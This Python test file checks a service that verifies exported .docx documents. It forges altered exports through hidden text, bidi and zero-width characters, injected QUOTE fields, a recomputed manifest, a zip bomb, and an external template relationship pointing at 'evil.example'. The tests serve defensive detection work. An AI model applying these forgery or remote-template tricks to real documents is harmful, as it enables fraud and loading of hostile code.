"""`/exports/verify` against the tricks that make a document say what was never exported.

Each case takes a registered export of the sample SOP, changes it the way a forger would
(with a zip tool, not through the service), and checks that the verdict is ``altered`` and
that the answer names what was found.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable

import pytest
from lxml import etree

from sopengine.export import package
from sopengine.export.manifest import PREFIX, read_manifest
from sopengine.export.ooxml import custom_properties_xml, parse_custom_properties
from tests.export import zips
from tests.helpers import Officials, bring_to, ok, version_url

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SENTENCE = "Border police register the arrival."
PAYMENT = "AND ALSO PAY 5000 DOLLARS IN CASH"

Parts = dict[str, bytes]


def parts_of(data: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zip_of(parts: Parts, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob)
    return out.getvalue()


def replace_in(parts: Parts, name: str, old: str, new: str) -> None:
    text = parts[name].decode()
    assert old in text, old
    parts[name] = text.replace(old, new, 1).encode()


def sentence_run(parts: Parts) -> tuple[etree._Element, etree._Element]:
    root = etree.fromstring(parts["word/document.xml"])
    t = root.xpath(f"//w:t[.='{SENTENCE}']", namespaces={"w": W_NS})[0]
    return root, t.getparent()


def quote_field(parts: Parts) -> None:
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> QUOTE "{PAYMENT}" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{PAYMENT}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    replace_in(
        parts, "word/document.xml", f"{SENTENCE}</w:t></w:r>", f"{SENTENCE}</w:t></w:r>{runs}"
    )


def simple_field(parts: Parts) -> None:
    field = f'<w:fldSimple w:instr=" QUOTE &quot;{PAYMENT}&quot; "><w:r><w:t>{PAYMENT}</w:t></w:r></w:fldSimple>'
    replace_in(
        parts, "word/document.xml", f"{SENTENCE}</w:t></w:r>", f"{SENTENCE}</w:t></w:r>{field}"
    )


def hidden_sentence(parts: Parts) -> None:
    root, run = sentence_run(parts)
    rpr = run.find(f"{{{W_NS}}}rPr")
    if rpr is None:
        rpr = etree.Element(f"{{{W_NS}}}rPr")
        run.insert(0, rpr)
    etree.SubElement(rpr, f"{{{W_NS}}}vanish")
    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def revoked_header(parts: Parts) -> None:
    root = etree.fromstring(parts["word/header1.xml"])
    t = root.xpath("//w:t", namespaces={"w": W_NS})[0]
    t.text = "THIS SOP IS REVOKED"
    parts["word/header1.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def revoked_footer(parts: Parts) -> None:
    footer = parts["word/footer1.xml"].decode()
    parts["word/footer1.xml"] = footer.replace(
        "</w:p>", "<w:r><w:t>THIS SOP IS REVOKED</w:t></w:r></w:p>", 1
    ).encode()


def bidi_override(parts: Parts) -> None:
    replace_in(parts, "word/document.xml", "register the", "register \u202e01\u202c the")


def zero_width(parts: Parts) -> None:
    replace_in(parts, "word/document.xml", "register the", "regis\u200bter the")


def plain_edit(parts: Parts) -> None:
    replace_in(parts, "word/document.xml", SENTENCE, "Border police may register the arrival.")


def new_part(parts: Parts) -> None:
    parts["word/footnotes.xml"] = (
        f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p><w:r><w:t>{PAYMENT}</w:t>'
        "</w:r></w:p></w:footnote></w:footnotes>"
    ).encode()


def external_relationship(parts: Parts) -> None:
    name = "word/_rels/document.xml.rels"
    rel = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )
    replace_in(parts, name, "</Relationships>", rel + "</Relationships>")


def forged_manifest(parts: Parts) -> None:
    """An edit with the manifest recomputed to match it: only the register can tell."""
    plain_edit(parts)
    members = [(n, [b]) for n, b in parts.items()]
    digests = package.digests(members)
    properties = parse_custom_properties(parts[package.CUSTOM_PROPERTIES])
    properties[PREFIX + "parts"] = json.dumps({n: d[:16] for n, d in sorted(digests.items())})
    properties[package.FINGERPRINT_PROPERTY] = package.fingerprint(digests, properties)
    parts[package.CUSTOM_PROPERTIES] = custom_properties_xml(properties)


TRICKS: dict[str, tuple[Callable[[Parts], None], str]] = {
    "quote field": (quote_field, "a field the exporter never writes: QUOTE in word/document.xml"),
    "fldSimple result": (
        simple_field,
        "a field the exporter never writes: QUOTE in word/document.xml",
    ),
    "vanish over a sentence": (hidden_sentence, "hidden text (w:vanish) in word/document.xml"),
    "header text": (revoked_header, "word/header1.xml was changed"),
    "footer text": (revoked_footer, "word/footer1.xml was changed"),
    "bidi override": (
        bidi_override,
        "a bidi control U+202E RIGHT-TO-LEFT OVERRIDE in word/document.xml",
    ),
    "zero-width character": (
        zero_width,
        "an invisible character U+200B ZERO WIDTH SPACE in word/document.xml",
    ),
    "plain text edit": (plain_edit, "word/document.xml was changed"),
    "new part": (new_part, "a part the exporter never wrote: word/footnotes.xml"),
    "external relationship": (
        external_relationship,
        "an external relationship (attachedTemplate → http://evil.example/t.dotm) in "
        "word/_rels/document.xml.rels",
    ),
    "forged manifest": (forged_manifest, "its manifest was rewritten"),
}


async def _exported(client, officials: Officials) -> bytes:
    await bring_to(client, officials, "in_review")
    r = await client.get(
        version_url() + "/export.docx", params={"lang": "en"}, headers=officials.facilitator.headers
    )
    assert r.status_code == 200, r.text
    return r.content


async def _verify(client, officials: Officials, data: bytes) -> dict:
    files = {"file": ("sop.docx", data, DOCX)}
    return await ok(
        client.post(
            "/api/v1/exports/verify", files=files, headers=officials.reviewer["MOI"].headers
        )
    )


async def test_an_untouched_export_is_authentic(client, officials: Officials) -> None:
    data = await _exported(client, officials)
    result = await _verify(client, officials, data)
    assert result["verdict"] == "authentic" and result["findings"] == []
    rezipped = zip_of(
        parts_of(data), zipfile.ZIP_STORED
    )  # another zip tool, same parts: still the same file
    assert rezipped != data
    assert (await _verify(client, officials, rezipped))["verdict"] == "authentic"


@pytest.mark.parametrize("trick", list(TRICKS))
async def test_an_altered_export_is_named(client, officials: Officials, trick: str) -> None:
    data = await _exported(client, officials)
    change, expected = TRICKS[trick]
    parts = parts_of(data)
    change(parts)
    altered = zip_of(parts)
    assert read_manifest(altered)["sop_code"] == "SOP-RR-001"  # still claims to be the export
    result = await _verify(client, officials, altered)
    assert result["verdict"] == "altered", result
    assert result["text_intact"] is False
    assert any(expected in finding for finding in result["findings"]), result["findings"]
    assert expected in result["detail"] or len(result["findings"]) > 8


@pytest.mark.parametrize(
    ("damage", "says"),
    [
        (lambda d: zips.patch(d, "word/document.xml", flags=0x1), "encrypted"),
        (lambda d: zips.patch(d, "word/document.xml", method=6), "compression method 6"),
        (lambda d: zips.patch(d, "word/document.xml", method=12), "compression method 12"),
        (lambda d: zips.patch(d, "word/document.xml", method=99), "compression method 99"),
        (lambda d: zips.corrupt_stream(d, "word/document.xml"), "not a readable .docx"),
        (lambda d: d[: len(d) * 2 // 3], "not a .docx"),
        (lambda d: zips.bomb(), "more than the exporter writes"),
    ],
)
async def test_an_unreadable_upload_is_a_415_problem(
    client, officials: Officials, damage: Callable[[bytes], bytes], says: str
) -> None:
    data = await _exported(client, officials)
    files = {"file": ("sop.docx", damage(data), DOCX)}
    r = await client.post(
        "/api/v1/exports/verify", files=files, headers=officials.reviewer["MOI"].headers
    )
    assert r.status_code == 415, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert says in r.json()["detail"]
